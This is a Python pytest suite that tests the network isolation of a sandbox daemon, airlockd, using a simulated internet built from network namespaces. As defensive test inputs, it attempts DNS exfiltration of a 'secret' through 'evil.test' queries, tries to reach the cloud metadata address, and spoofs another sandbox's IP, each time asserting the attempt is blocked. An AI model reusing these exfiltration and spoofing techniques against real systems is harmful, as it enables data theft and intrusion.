"""Sandbox networks end to end (issue 4), against a fake internet built by the test.

Nothing here can send a packet off this machine: airlockd runs in a network namespace of the test's
("daemon ns") whose only link leads to a second one ("world ns") acting as the internet: an HTTP server
on every address, an echo server, a DNS server authoritative for *.test (net_world_server.py), a
"metadata service" at 169.254.169.254 and a private host at 10.99.0.1. The daemon's NAT, bridge and
nftables tables live in the daemon ns, and both namespaces are deleted at the end.

    sandbox eth0 ── alv<i> ─ airlock0 (10.213.0.1) [daemon ns: 198.51.100.2] ── [world ns: 198.51.100.1,
                                                                                 203.0.113.0/24, 169.254.169.254, ...]
"""
import http.client
import json
import os
import socket
import subprocess
import tempfile
import time
from pathlib import Path

import pytest

HERE = Path(__file__).resolve().parent
PY = "/usr/bin/python3"

pytestmark = pytest.mark.skipif(os.geteuid() != 0, reason="network namespaces need root")


from net_world import World  # noqa: E402


@pytest.fixture(scope="module")
def world():
    w = World().up()
    yield w
    w.down()


class UnixConnection(http.client.HTTPConnection):
    def __init__(self, path, timeout):
        super().__init__("localhost", timeout=timeout)
        self.path = path

    def connect(self):
        self.sock = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        self.sock.settimeout(self.timeout)
        self.sock.connect(self.path)


@pytest.fixture
def netd(make_daemon, world, airlockd_bin):
    """airlockd inside the daemon ns (its unix socket reaches the test from there)."""
    wrapper = world.dir / "airlockd-in-ns"
    wrapper.write_text(f"#!/bin/sh\nexec nsenter --net=/run/netns/{world.dns} {airlockd_bin} \"$@\"\n")
    wrapper.chmod(0o755)
    d = make_daemon(start=False)
    d.binary = str(wrapper)
    d.connection = lambda timeout=15, unix=False: UnixConnection(d.socket_path, timeout)
    d.start("--net-dns-upstream", "203.0.113.53", "--net-ipv6-forwarding")
    yield d
    # Whatever a test left: sandboxes go, then the daemon, which removes the bridge and tables.
    admin = d.admin()
    if d.alive():
        r = admin.get("/v1/sandboxes?state=running")
        for sb in (r.json or {}).get("sandboxes", []):
            admin.delete(f"/v1/sandboxes/{sb['sandbox_id']}")
        assert d.stop() == 0


def create(admin, network=None, **extra):
    body = dict(extra)
    if network is not None:
        body["network"] = network
    r = admin.post("/v1/sandboxes", json=body, timeout=60)
    assert r.status == 201, r
    return r.json


def run(admin, sid, cmd, timeout=20):
    r = admin.post(f"/v1/sandboxes/{sid}/commands/run", json={"cmd": cmd, "timeout": timeout}, timeout=timeout + 15)
    assert r.status == 200, r
    return r.json


def fetch(admin, sid, url, extra=""):
    """curl inside the sandbox: (exit code, body). 7 = refused, 6 = not resolved, 28 = timed out."""
    res = run(admin, sid, f"curl -gsS -m 4 {extra} {url}")
    return res["exit_code"], res["stdout"] + res["stderr"]


# --- none ------------------------------------------------------------------------------------------------

def test_none_is_loopback_only(netd, world):
    admin = netd.admin()
    sb = create(admin)
    assert sb["network"] == {"mode": "none", "allow_out": [], "deny_out": [], "bandwidth_mbps": None, "ipv4": None, "ipv6": None}
    links = run(admin, sb["sandbox_id"], "ls /sys/class/net")["stdout"].split()
    assert links == ["lo"]
    code, out = fetch(admin, sb["sandbox_id"], "http://198.51.100.1/")
    assert code != 0 and "hello" not in out
    # No host state at all for sandboxes without an interface.
    assert "airlock0" not in world.in_daemon_ns("ip", "link").stdout


# --- allow -----------------------------------------------------------------------------------------------

def test_allow_reaches_the_internet_and_nothing_it_must_not(netd, world):
    admin = netd.admin()
    sb = create(admin, {"mode": "allow"})
    sid = sb["sandbox_id"]
    assert sb["network"]["ipv4"].startswith("10.213.") and sb["network"]["ipv6"].startswith("fd00:a1c0:7e57::")
    other = create(admin, {"mode": "allow"})
    # The other sandbox serves HTTP on its address: still unreachable from the first one.
    admin.post(f"/v1/sandboxes/{other['sandbox_id']}/processes",
               json={"argv": [PY, "-m", "http.server", "8080", "--bind", "0.0.0.0"], "cwd": "/"})

    code, out = fetch(admin, sid, "http://203.0.113.10/")
    assert code == 0 and "hello from 203.0.113.10" in out, out
    code, out = fetch(admin, sid, "-6 'http://[2001:db8:2::10]/'")
    assert code == 0 and "hello from 2001:db8:2::10" in out, out
    for forbidden in ("http://169.254.169.254/",        # cloud metadata
                      "http://10.99.0.1/",              # private range
                      "http://198.51.100.2:7070/",      # the host itself (the daemon ns)
                      "http://10.213.0.1:7070/",        # the host, through the gateway
                      f"http://{other['network']['ipv4']}:8080/"):  # another sandbox
        code, out = fetch(admin, sid, forbidden)
        assert code in (7, 28) and "hello" not in out, (forbidden, code, out)
        assert code == 7, f"{forbidden} should be refused at once, not time out: {out}"


def test_allow_out_opens_a_private_range_and_deny_out_wins(netd, world):
    admin = netd.admin()
    sb = create(admin, {"mode": "allow", "allow_out": ["10.99.0.1/32"], "deny_out": ["203.0.113.11", "203.0.113.10:80"]})
    sid = sb["sandbox_id"]
    assert sb["network"]["allow_out"] == ["10.99.0.1"] and sb["network"]["deny_out"] == ["203.0.113.11", "203.0.113.10:80"]
    assert fetch(admin, sid, "http://10.99.0.1/")[0] == 0
    assert fetch(admin, sid, "http://203.0.113.11/")[0] == 7
    assert fetch(admin, sid, "http://203.0.113.10/")[0] == 7          # port 80 denied...
    assert fetch(admin, sid, "http://203.0.113.10:9000/", "-o /dev/null")[0] != 7  # ...other ports not
    assert fetch(admin, sid, "http://169.254.169.254/")[0] == 7


def test_cidr_allowlist_without_internet(netd, world):
    admin = netd.admin()
    sid = create(admin, {"mode": "none", "allow_out": ["203.0.113.10:80"]})["sandbox_id"]
    assert fetch(admin, sid, "http://203.0.113.10/")[0] == 0
    assert fetch(admin, sid, "http://203.0.113.11/")[0] == 7
    assert fetch(admin, sid, "http://198.51.100.1/")[0] == 7


# --- domains ---------------------------------------------------------------------------------------------

DNS_TXT = r'''
import socket, struct, sys
name = sys.argv[1]
q = struct.pack("!HHHHHH", 0x1234, 0x0100, 1, 0, 0, 0)
q += b"".join(bytes([len(p)]) + p.encode() for p in name.split(".")) + b"\0" + struct.pack("!HH", 16, 1)
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.settimeout(3)
s.sendto(q, (sys.argv[2], 53))
r = s.recv(4096)
print("rcode", r[3] & 15, "answers", struct.unpack("!H", r[6:8])[0])
'''


def test_domain_allowlist(netd, world):
    admin = netd.admin()
    sid = create(admin, {"mode": "none", "allow_out": ["pypi.test", "*.pypi.test"]})["sandbox_id"]
    assert "nameserver 10.213.0.1" in run(admin, sid, "cat /etc/resolv.conf")["stdout"]
    code, out = fetch(admin, sid, "http://pypi.test/")
    assert code == 0 and "hello from 203.0.113.10" in out, out
    code, out = fetch(admin, sid, "http://files.pypi.test/")
    assert code == 0 and "hello from 203.0.113.11" in out, out
    code, out = fetch(admin, sid, "http://evil.test/")
    assert code == 6, out                                    # not resolved: NXDOMAIN
    assert fetch(admin, sid, "http://203.0.113.20/")[0] == 7  # nor reached by its address
    # An allowed name's address is open; an address it never answered is not, even next door.
    assert fetch(admin, sid, "http://203.0.113.53/")[0] == 7
    # Exfiltration through DNS: the secret never reaches the internet's resolver.
    before = world.queries()
    res = run(admin, sid, f"{PY} -c '{DNS_TXT}' s3cr3t-payload.evil.test 10.213.0.1")
    assert "rcode 3" in res["stdout"], res
    assert "s3cr3t-payload" not in world.queries()[len(before):]
    # ...nor by asking the internet's resolver directly.
    res = run(admin, sid, f"{PY} -c '{DNS_TXT}' s3cr3t-payload.evil.test 203.0.113.53")
    assert res["exit_code"] != 0
    assert "s3cr3t-payload" not in world.queries()
    # Refusals are in the sandbox's log.
    logs = admin.get(f"/v1/sandboxes/{sid}/logs")
    assert logs.status == 200 and "evil.test" in json.dumps(logs.json), logs


def test_domain_deny_in_allow_mode(netd, world):
    admin = netd.admin()
    sid = create(admin, {"mode": "allow", "deny_out": ["*.evil.test", "evil.test"]})["sandbox_id"]
    assert fetch(admin, sid, "http://pypi.test/")[0] == 0
    assert fetch(admin, sid, "http://evil.test/")[0] == 6
    assert fetch(admin, sid, "http://www.evil.test/")[0] == 6


# --- runtime changes -------------------------------------------------------------------------------------

ECHO_LOOP = r'''
import socket, sys, time
s = socket.create_connection(("203.0.113.10", 9000), timeout=3)
f = s.makefile("rw")
for i in range(600):
    try:
        f.write(f"ping {i}\n"); f.flush()
        line = f.readline()
        if not line:
            print("closed", flush=True); break
        print("ok", i, flush=True)
    except OSError as e:
        print("cut", type(e).__name__, flush=True); break
    time.sleep(0.1)
'''


def test_runtime_update_takes_effect_and_cuts_existing_connections(netd, world):
    admin = netd.admin()
    sid = create(admin, {"mode": "allow"})["sandbox_id"]
    r = admin.post(f"/v1/sandboxes/{sid}/processes", json={"argv": [PY, "-c", ECHO_LOOP], "cwd": "/"})
    assert r.status == 201, r
    pid = r.json["pid"]

    def output():
        o = admin.get(f"/v1/sandboxes/{sid}/processes/{pid}/output?follow=false")
        assert o.status == 200, o
        events = [json.loads(line) for line in o.body.decode().splitlines() if line.strip()]
        return "".join(e.get("data", "") for e in events if e["type"] in ("stdout", "stderr"))

    deadline = time.monotonic() + 10
    while "ok 3" not in output():
        assert time.monotonic() < deadline, output()
        time.sleep(0.1)
    r = admin.request("PUT", f"/v1/sandboxes/{sid}/network", json={"mode": "allow", "deny_out": ["203.0.113.10"]})
    assert r.status == 200 and r.json["deny_out"] == ["203.0.113.10"], r
    deadline = time.monotonic() + 10
    while "cut" not in output() and "closed" not in output():
        assert time.monotonic() < deadline, "the established connection survived the new policy: " + output()[-300:]
        time.sleep(0.1)
    assert fetch(admin, sid, "http://203.0.113.10/")[0] == 7
    assert fetch(admin, sid, "http://203.0.113.11/")[0] == 0
    # Back to no interface at all, then to the internet again.
    r = admin.request("PUT", f"/v1/sandboxes/{sid}/network", json={})
    assert r.status == 200 and r.json["ipv4"] is None, r
    assert run(admin, sid, "ls /sys/class/net")["stdout"].split() == ["lo"]
    r = admin.request("PUT", f"/v1/sandboxes/{sid}/network", json={"mode": "allow"})
    assert r.status == 200 and r.json["ipv4"], r
    assert fetch(admin, sid, "http://203.0.113.11/")[0] == 0
    assert admin.get(f"/v1/sandboxes/{sid}").json["network"]["mode"] == "allow"


def test_bandwidth_limit_polices_both_directions(netd, world):
    admin = netd.admin()
    sb = create(admin, {"mode": "allow", "bandwidth_mbps": 40})  # 5 MB/s each way
    assert sb["network"]["bandwidth_mbps"] == 40
    index = int(sb["network"]["ipv4"].split(".")[2]) * 256 + int(sb["network"]["ipv4"].split(".")[3]) - 2
    chain = world.in_daemon_ns("nft", "list", "chain", "inet", "airlock", f"sb_{index}_in").stdout
    assert "limit rate over 5000 kbytes/second" in chain, chain
    res = run(admin, sb["sandbox_id"], "curl -sS -m 30 -o /dev/null -w '%{speed_download}' http://203.0.113.10/bytes/20000000",
              timeout=40)
    assert res["exit_code"] == 0, res
    # Load only makes a transfer slower: the upper bound is what the limit guarantees.
    assert float(res["stdout"]) < 5_000_000 * 1.5, res["stdout"]
    r = admin.request("PUT", f"/v1/sandboxes/{sb['sandbox_id']}/network", json={"mode": "allow"})
    assert r.status == 200 and r.json["bandwidth_mbps"] is None
    assert "limit rate" not in world.in_daemon_ns("nft", "list", "chain", "inet", "airlock", f"sb_{index}_in").stdout


def test_bad_policies_are_refused(netd, world):
    admin = netd.admin()
    sid = create(admin)["sandbox_id"]
    for body, field in (({"mode": "bridge"}, "mode"), ({"allow_out": ["10.0.0.0/40"]}, "allow_out[0]"),
                        ({"allow_out": ["x"] * 257}, "allow_out"), ({"ports": [80]}, "ports"),
                        ({"bandwidth_mbps": 0}, "bandwidth_mbps"), ({"bandwidth_mbps": "fast"}, "bandwidth_mbps")):
        r = admin.request("PUT", f"/v1/sandboxes/{sid}/network", json=body)
        assert r.status == 400 and r.json["error"]["field"] == field, r
    assert admin.request("PUT", "/v1/sandboxes/sb-0000000000000000/network", json={}).status == 404
    admin.delete(f"/v1/sandboxes/{sid}")
    r = admin.request("PUT", f"/v1/sandboxes/{sid}/network", json={"mode": "allow"})
    assert r.status == 409 and r.error_code == "sandbox_not_running", r


# --- hostile sandbox -------------------------------------------------------------------------------------

def sandbox_pid(sb):
    """A host pid of a process in the sandbox (its cgroup is airlock-<index>; index = address - pool - 2)."""
    index = int(sb["network"]["ipv4"].split(".")[2]) * 256 + int(sb["network"]["ipv4"].split(".")[3]) - 2
    for root in ("/sys/fs/cgroup/pids", "/sys/fs/cgroup"):
        found = subprocess.run(["find", root, "-maxdepth", "8", "-type", "d", "-name", f"airlock-{index}"],
                               capture_output=True, text=True).stdout.split()
        for d in found:
            procs = Path(d, "cgroup.procs").read_text().split()
            if procs:
                return int(procs[0])
    raise AssertionError(f"no cgroup airlock-{index}")


def test_a_sandbox_cannot_change_its_address(netd, world):
    """Root in a sandbox has no CAP_NET_ADMIN: it cannot touch its interface at all."""
    admin = netd.admin()
    a = create(admin, {"mode": "allow"})
    res = run(admin, a["sandbox_id"], "ip addr add 10.213.0.99/32 dev eth0")
    assert res["exit_code"] != 0 and "not permitted" in res["stderr"].lower(), res


def test_a_sandbox_cannot_borrow_another_sandboxs_address(netd, world):
    """Defence in depth, should a sandbox ever gain CAP_NET_ADMIN: sandbox A (allowed nothing) takes
    sandbox B's address (B may reach the internet). The bridge drops A's frames; B is unharmed."""
    admin = netd.admin()
    a = create(admin, {"mode": "none", "allow_out": ["198.51.100.99"]})
    b = create(admin, {"mode": "allow"})
    pid = sandbox_pid(a)
    enter = ["nsenter", "-t", str(pid), "-n"]
    subprocess.run([*enter, "ip", "addr", "flush", "dev", "eth0"], check=True)
    subprocess.run([*enter, "ip", "addr", "add", f"{b['network']['ipv4']}/32", "dev", "eth0"], check=True)
    subprocess.run([*enter, "ip", "route", "add", "10.213.0.1", "dev", "eth0"], check=True)
    subprocess.run([*enter, "ip", "route", "add", "default", "via", "10.213.0.1"], check=True)
    code, out = fetch(admin, a["sandbox_id"], "http://203.0.113.10/")
    assert code != 0 and "hello" not in out, out
    assert fetch(admin, b["sandbox_id"], "http://203.0.113.10/")[0] == 0


# --- restart and cleanup ---------------------------------------------------------------------------------

def test_policies_survive_a_daemon_restart_and_everything_goes_at_the_end(netd, world):
    admin = netd.admin()
    sid = create(admin, {"mode": "allow", "deny_out": ["203.0.113.11"]})["sandbox_id"]
    netd.kill()
    netd.start("--net-dns-upstream", "203.0.113.53", "--net-ipv6-forwarding")
    assert fetch(admin, sid, "http://203.0.113.10/")[0] == 0
    assert fetch(admin, sid, "http://203.0.113.11/")[0] == 7
    assert fetch(admin, sid, "http://169.254.169.254/")[0] == 7
    assert admin.delete(f"/v1/sandboxes/{sid}").status == 200
    # The pair goes with the sandbox's namespace, which the kernel frees in the background.
    deadline = time.monotonic() + 10
    while "alv" in world.in_daemon_ns("ip", "link").stdout:
        assert time.monotonic() < deadline, world.in_daemon_ns("ip", "link").stdout
        time.sleep(0.05)
    assert netd.stop() == 0
    links = world.in_daemon_ns("ip", "link").stdout
    assert "airlock0" not in links and "alv" not in links, links
    assert "airlock" not in world.in_daemon_ns("nft", "list", "ruleset").stdout
    assert world.in_daemon_ns("cat", "/proc/sys/net/ipv4/ip_forward").stdout.strip() == "0"


# --- the CLI and the SDK ---------------------------------------------------------------------------------

def test_cli_and_sdk_set_the_policy(netd, world, airlockd_bin):
    import sys
    sys.path.insert(0, str(HERE.parents[1] / "sdk" / "python"))
    import airlock

    cli_bin = str(Path(airlockd_bin).parent / "airlock")
    env = dict(os.environ, AIRLOCK_URL=f"unix:{netd.socket_path}", AIRLOCK_API_KEY=netd.admin_key)

    def cli(*args):
        r = subprocess.run([cli_bin, *args], capture_output=True, text=True, env=env, timeout=60)
        assert r.returncode == 0, (args, r.stdout, r.stderr)
        return r.stdout

    sid = cli("sandbox", "create", "--net", "none", "--allow-out", "203.0.113.10:80").strip()
    assert fetch(netd.admin(), sid, "http://203.0.113.10/")[0] == 0
    assert fetch(netd.admin(), sid, "http://203.0.113.11/")[0] == 7
    shown = cli("sandbox", "get", sid)
    assert "network:" in shown and "allow 203.0.113.10:80" in shown, shown
    out = cli("sandbox", "net", sid, "--net", "allow", "--deny-out", "203.0.113.10")
    assert "allow" in out and "deny 203.0.113.10" in out, out
    assert fetch(netd.admin(), sid, "http://203.0.113.11/")[0] == 0
    assert fetch(netd.admin(), sid, "http://203.0.113.10/")[0] == 7

    sb = airlock.Sandbox.create(api_url=f"unix:{netd.socket_path}", api_key=netd.admin_key,
                                allow_internet_access=True, deny_out=["203.0.113.11"])
    try:
        assert sb.info.network["mode"] == "allow" and sb.info.network["ipv4"]
        assert sb.commands.run("curl -sS -m 4 http://203.0.113.10/").stdout.startswith("hello")
        assert sb.commands.run("curl -sS -m 4 http://203.0.113.11/").exit_code == 7
        policy = sb.set_network(allow_out=["203.0.113.11"])
        assert policy["mode"] == "none" and policy["allow_out"] == ["203.0.113.11"]
        assert sb.commands.run("curl -sS -m 4 http://203.0.113.11/").exit_code == 0
        assert sb.commands.run("curl -sS -m 4 http://203.0.113.10/").exit_code == 7
    finally:
        sb.kill()
